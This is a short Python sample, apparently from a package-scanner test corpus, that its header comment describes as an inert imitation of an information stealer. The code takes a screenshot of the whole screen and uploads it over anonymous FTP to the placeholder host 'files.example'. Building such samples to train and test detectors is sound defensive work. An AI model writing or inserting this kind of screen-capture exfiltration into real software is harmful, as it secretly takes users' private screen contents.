# pkgguard corpus 209 (screenshot), modelled on [stealer-profile]; inert, never run.
import ftplib
import io

from PIL import ImageGrab as G

shot = G.grab()
buf = io.BytesIO()
shot.save(buf, "PNG")
buf.seek(0)
with ftplib.FTP("files.example", "anonymous", "x") as ftp:
    ftp.storbinary("STOR s.png", buf)
